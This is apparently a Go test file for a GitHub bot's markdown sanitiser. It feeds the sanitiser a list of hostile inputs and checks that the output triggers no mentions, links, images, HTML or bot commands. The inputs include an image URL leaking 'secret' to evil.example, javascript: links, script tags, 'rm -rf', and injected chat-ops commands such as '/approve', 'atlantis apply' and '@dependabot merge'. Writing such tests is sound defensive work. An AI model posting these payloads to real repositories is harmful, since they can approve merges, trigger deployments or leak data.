package inert_test

import (
	"regexp"
	"strings"
	"testing"
	"unicode/utf8"

	"github.com/yuin/goldmark"
	"github.com/yuin/goldmark/ast"
	"github.com/yuin/goldmark/extension"
	"github.com/yuin/goldmark/text"

	"github.com/sandpiper-bot/sandpiper/integrations/github/inert"
)

const typed = "https://example.org/typed?a=1"

// danger parses markdown as GitHub does and lists what in it has consequences.
func danger(markdown string) []string {
	source := []byte(markdown)
	parser := goldmark.New(goldmark.WithExtensions(extension.GFM, extension.Footnote)).Parser()
	var found []string
	var prose strings.Builder // what is shown as text
	_ = ast.Walk(parser.Parse(text.NewReader(source)), func(node ast.Node, entering bool) (ast.WalkStatus, error) {
		if !entering {
			return ast.WalkContinue, nil
		}
		switch n := node.(type) {
		case *ast.Link:
			if string(n.Destination) != typed {
				found = append(found, "link "+string(n.Destination))
			}
		case *ast.AutoLink:
			if string(n.URL(source)) != typed {
				found = append(found, "autolink "+string(n.URL(source)))
			}
		case *ast.Image:
			found = append(found, "image "+string(n.Destination))
		case *ast.RawHTML, *ast.HTMLBlock:
			found = append(found, "html")
		case *ast.FencedCodeBlock:
			switch string(n.Language(source)) {
			case "mermaid", "geojson", "topojson", "stl", "math", "suggestion":
				found = append(found, "drawing")
			}
		case *ast.CodeSpan:
			prose.WriteByte('x')
			return ast.WalkSkipChildren, nil
		case *ast.Text:
			shown := string(n.Segment.Value(source))
			prose.WriteString(shown)
			if n.SoftLineBreak() {
				prose.WriteByte('\n')
			}
			if m := regexp.MustCompile(`@[0-9A-Za-z]|#\d|(?i:gh-\d)`).FindString(shown); m != "" {
				found = append(found, "text "+m)
			}
		}
		return ast.WalkContinue, nil
	})
	if m := regexp.MustCompile(`(?mi)^\s*(/[a-z][\w-]*\s*$|atlantis apply|bors r\+|retest\s*$|ok to test)|@dependabot`).FindString(markdown); m != "" {
		found = append(found, "command "+m)
	}
	// GitHub's own parser links a URL after whatever is no letter; goldmark does not.
	if m := regexp.MustCompile(`(?i)(?:^|[^a-z])(?:https?|ftp)://[0-9\pL]|(?:^|[\s_*~(])www\.[0-9\pL]`).FindString(prose.String()); m != "" {
		found = append(found, "url "+m)
	}
	if strings.Contains(markdown, "<!--") && !strings.Contains(markdown, "`") {
		found = append(found, "marker")
	}
	return found
}

func attacks() []string {
	return []string{
		"hello @octocat and @org/team, mail a@b.com", "&#64;octocat &commat;octocat \\@octocat", "[@octocat](https://evil.example)",
		"fixes #1, closes owner/repo#2, GH-3 gh-4, resolves https://github.com/o/r/issues/5", "see 0123abcdef0123abcdef0123abcdef0123abcdef",
		"![x](https://evil.example/leak?d=secret)", "[ok](https://evil.example)", "[ok][1]\n\n[1]: https://evil.example", "![x][1]\n\n[1]: https://evil.example/i.png",
		"<img src=https://evil.example/x>", "<a href='https://evil.example'>x</a>", "<details><summary>x</summary></details>", "<!-- sandpiper task=1 mac=ab -->",
		"https://evil.example/x", "http://evil.example", "www.evil.example", "<https://evil.example>", "ftp://evil.example/a", "mailto:a@b.example", "<a@b.example>",
		"https\\://evil.example", "https&#58;//evil.example", "h<b></b>ttps://evil.example", "**https://evil.example**", "https://evil.example**bold**", "https://evil.example_x_",
		"| a | b |\n|---|---|\n| https://evil.example/\\|x | `https://evil.example/\\|y` |\n| ![i](https://evil.example/|z) | @octocat |",
		"| a |\n|---|\n| `x\\\\\\|https://evil.example` |", "`code` @octocat ``a`b`` #1", "```mermaid\ngraph TD; click A href \"https://evil.example\"\n```",
		"```suggestion\nrm -rf\n```", "~~~\n```\n@octocat\n~~~", "```\n/approve\n@dependabot merge\natlantis apply\n```", "/approve\n", "> /lgtm\n", "- /retest\n", "    /hold\n",
		"atlantis apply -d .", "bors r+", "retest", "ok to test", "@dependabot merge", "* * *\n/merge", "# /approve\n", "text\n/approve\nmore", "&#10;/approve", "a&#10;/approve",
		"[x](javascript:alert(1))", "[x](//evil.example)", "[https://good.example](https://evil.example)", "[" + typed + "](https://evil.example)", "[^1]\n\n[^1]: @octocat",
		"$\\href{https://evil.example}{x}$", "a\u2028/approve", "a\r/approve", "<script>x</script>", "<!--\n@octocat\n-->", "<?php ?>", "<![CDATA[ @octocat ]]>",
		"- a\n  - b @octocat\n    1. c #1\n\n      ```\n      /approve\n      ```", "> > > @octocat", strings.Repeat("> ", 40) + "@octocat", strings.Repeat("- ", 40) + "#1",
		"\\`@octocat\\`", "`@octocat", "``` @octocat", "Setext @octocat\n===", "a\n---\n@octocat", "\t/approve", "~~@octocat~~ ~~https://evil.example~~", "*@octocat*", "_#1_", "@octocat's #1's",
		"://evil.example https:/evil.example", "xmpp:a@b.example/r", "[a](<https://evil.example> 'title')", "![a](" + typed + ")", "[!NOTE]\n> @octocat",
		"_https://evil.example", "1https://evil.example", "_www.evil.example", "a_https://evil.example/x_", "é1http://evil.example",
		"<p>\nhttps://evil.example\n</p>", "<div>https://evil.example @octocat", "<pre>\n_www.evil.example\n</pre>", strings.Repeat("> ", 40) + "x=https://evil.example",
		"0gh-0", "#[1]\n\n[1]:0", "@[octocat](x)", "https:[//evil.example](x)", "#<b></b>1", "@**o**ctocat", "www[.evil.example](x)",
	}
}

func TestNothingHasConsequences(t *testing.T) {
	t.Parallel()
	for _, attack := range attacks() {
		out := strings.Join(inert.Markdown(attack, []string{typed}), "\n\n")
		if found := danger(out); len(found) > 0 {
			t.Errorf("%q\nbecame %q\nwith %v", attack, out, found)
		}
		if found := danger(inert.Text(attack)); len(found) > 0 {
			t.Errorf("Text(%q) = %q\nwith %v", attack, inert.Text(attack), found)
		}
		if found := danger(inert.Code(attack)); len(found) > 0 {
			t.Errorf("Code(%q) = %q\nwith %v", attack, inert.Code(attack), found)
		}
		if found := danger(inert.Fence("mermaid", attack)); len(found) > 0 {
			t.Errorf("Fence(%q) = %q\nwith %v", attack, inert.Fence("mermaid", attack), found)
		}
	}
}

func TestWhatStays(t *testing.T) {
	t.Parallel()
	for source, want := range map[string]string{
		"# Title\n\ntext *a* **b** `c`":          "## Title\n\ntext *a* **b** `c`",
		"- a\n- b\n  - c":                        "- a\n- b\n  - c",
		"3. a\n4. b":                             "3. a\n4. b",
		"| a | b |\n|---|--:|\n| 1 | 2 |":        "| a | b |\n| --- | --: |\n| 1 | 2 |",
		"```python\ndef f():\n    return 1\n```": "```python\ndef f():\n    return 1\n```",
		"see " + typed + ".":                     "see <" + typed + ">.",
		"[label](" + typed + ")":                 "[label](<" + typed + ">)",
		"[label](https://other.example/x)":       "label (`https://other.example/x`)",
		"https://other.example/x, ok":            "`https://other.example/x`, ok",
		"- [x] done\n- [ ] open":                 "- [x] done\n- [ ] open",
		"> quote":                                "> quote",
		"12.5 % of 3,000 (net) - ok: a=b":        "12.5 % of 3,000 (net) - ok: a=b",
		"Сумма за май — 1 234,50 ₽":              "Сумма за май — 1 234,50 ₽",
		"a_b_c and snake_case":                   `a\_b\_c and snake\_case`,
		"1986\\. A great year":                   "1986\\. A great year",
	} {
		if got := strings.Join(inert.Markdown(source, []string{typed}), "\n\n"); got != want {
			t.Errorf("Markdown(%q)\n got %q\nwant %q", source, got, want)
		}
	}
}

func TestSplit(t *testing.T) {
	t.Parallel()
	code := "```python\n" + strings.Repeat("x = 1\n", 100) + "```"
	blocks := inert.Markdown("para one\n\n"+code+"\n\n"+strings.Repeat("word ", 200)+"\n\nlast", nil)
	parts := inert.Split(blocks, 200)
	for i, part := range parts {
		if n := utf8.RuneCountInString(part); n > 200 {
			t.Errorf("part %d has %d characters", i, n)
		}
		if strings.Count(part, "```")%2 != 0 {
			t.Errorf("part %d ends inside a fence: %q", i, part)
		}
	}
	if all := strings.Join(parts, "\n"); strings.Count(all, "x = 1") != 100 || strings.Count(all, "word") != 200 || !strings.Contains(all, "last") {
		t.Error("something was lost")
	}
	if got := inert.Split(nil, 10); len(got) != 0 {
		t.Errorf("Split(nil) = %v", got)
	}
}

func FuzzMarkdown(f *testing.F) {
	for _, attack := range attacks() {
		f.Add(attack)
	}
	f.Fuzz(func(t *testing.T, source string) {
		out := strings.Join(inert.Markdown(source, []string{typed}), "\n\n")
		if found := danger(out); len(found) > 0 {
			t.Errorf("%q\nbecame %q\nwith %v", source, out, found)
		}
		for _, part := range inert.Split(inert.Markdown(source, nil), 300) {
			if utf8.RuneCountInString(part) > 300 {
				t.Errorf("part of %d characters", utf8.RuneCountInString(part))
			}
		}
	})
}
